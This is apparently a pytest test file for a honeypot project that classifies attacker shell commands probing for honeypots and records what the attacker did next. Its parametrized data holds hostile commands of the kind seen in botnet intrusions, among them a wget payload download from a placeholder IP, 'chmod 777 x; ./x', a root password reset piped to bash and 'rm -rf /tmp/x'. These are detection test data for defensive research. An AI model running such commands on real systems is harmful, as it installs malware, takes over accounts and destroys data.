from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from urltrap.judge.belief import CHECKS, LONGEST, Step, checks_in, observe

SESSIONS = Path(__file__).resolve().parents[3] / "shared" / "data" / "sessions.jsonl"


@pytest.mark.parametrize(
    ("command", "check"),
    [
        (b"/bin/busybox ECCHI", "busybox-token"),
        (b"cat /proc/mounts; /bin/busybox ZONESEC", "busybox-token"),
        (b"/bin/busybox wget; /bin/busybox tftp; /bin/busybox ABCDE", "busybox-applets"),
        (b"tftp; wget; /bin/busybox XKJTG", "applet-absent"),
        (b"dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", "elf-header"),
        (b"dd if=/proc/self/exe bs=22 count=1 || while read i; do echo $i; done < /proc/self/exe", "elf-header"),
        (b"/bin/busybox cat /bin/echo", "elf-header"),
        (b"echo -ne '\\x6b\\x61\\x6d\\x69'", "echo-escape"),
        (b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon", "writable-mount"),
        (b"echo $((0x41+1))", "arithmetic"),
        (b"cat /proc/cpuinfo | grep name | wc -l", "processor"),
        (b"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "memory"),
        (b"df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", "disk"),
        (b"uname -s -v -n -r -m", "kernel"),
        (b"/bin/./uname -s -v -n -r -m", "kernel"),
        (b"ls -lh $(which ls)", "which-ls"),
        (b"if [ $(ls /home/) == \"richard\" ]", "home-names"),
        (b"cd ~; chattr -ia .ssh; lockr -ia .ssh", "missing-command"),
        (b"/ip cloud print", "mikrotik"),
        (b"ps | grep '[Mm]iner'", "miners"),
        (b"ls -la /dev/ttyGSM* /var/spool/sms", "gsm-modems"),
        (b"echo Hi | cat -n", "echo-word"),
        (b"enable", "shell-builtins"),
        (b"curl -s ifconfig.me", "own-address"),
        (b"cat /proc/1/cgroup; ls -la /.dockerenv", "container"),
        (b"echo \"root:RANDOM12\"|chpasswd|bash", "new-password"),
        (b"crontab -l", "cron"), (b"w", "users-here"), (b"whoami", "identity"), (b"top", "processes"),
        (b"nproc", "processor"), (b"cat /etc/issue", "distribution"), (b"netstat -tulpn", "connections"),
    ],
)  # fmt: skip
def test_a_command_that_checks_for_honeypots_is_tagged(command: bytes, check: str) -> None:
    assert check in checks_in(command)


@pytest.mark.parametrize(
    "command",
    [
        b"wget http://198.51.100.9/x",
        b"chmod 777 x; ./x",
        b"cd /tmp",
        b"rm -rf /tmp/x",
        b"busybox wget http://a/b",
    ],
)
def test_a_command_that_only_acts_is_no_check(command: bytes) -> None:
    assert checks_in(command) == []


def test_names_of_checks_are_unique_and_fit_the_store() -> None:
    names = [check.name for check in CHECKS]
    assert len(set(names)) == len(names) and max(map(len, names)) <= 40


def test_what_the_attacker_did_next_is_told_with_its_answer_and_time() -> None:
    steps = [Step(1, 100, b"uname -a", b"Linux"), Step(2, 900, b"cd /tmp"), Step(3, 1500, b"nproc", b"1\n")]
    first, last = observe(steps, ended_ms=4000, closed_by_client=True)
    assert (first.check, first.answer, first.afterwards, first.after_ms, first.commands_left) == (
        "kernel", b"Linux", "went-on", 800, 2,
    )  # fmt: skip
    assert (last.check, last.answer, last.afterwards, last.after_ms, last.commands_left) == (
        "processor",
        b"1\n",
        "left",
        2500,
        0,
    )


def test_who_was_sent_away_did_not_leave() -> None:
    (only,) = observe([Step(1, 0, b"uname -a")], ended_ms=900_000, closed_by_client=False)
    assert only.afterwards == "went-on"


@pytest.mark.skipif(not SESSIONS.exists(), reason="the captured sessions are not here")
def test_most_captured_interactive_sessions_hold_a_check() -> None:
    sessions = [json.loads(line)["commands"] for line in SESSIONS.read_text("utf-8").splitlines()]
    shell = [
        commands for commands in sessions if any("/" in command or " " in command for command in commands)
    ]
    checked = sum(any(checks_in(command.encode()) for command in commands) for commands in shell)
    assert checked / len(shell) > 0.4


@given(st.binary(max_size=400))
def test_any_bytes_can_be_looked_at(text: bytes) -> None:
    checks_in(text)


def test_a_megabyte_is_looked_at_in_bounded_time() -> None:
    for unit in (b"busybox ", b"echo \\x41", b"dd if=", b"while read i; do ", b" ", b"ls "):
        checks_in(unit * (LONGEST // len(unit) * 4))
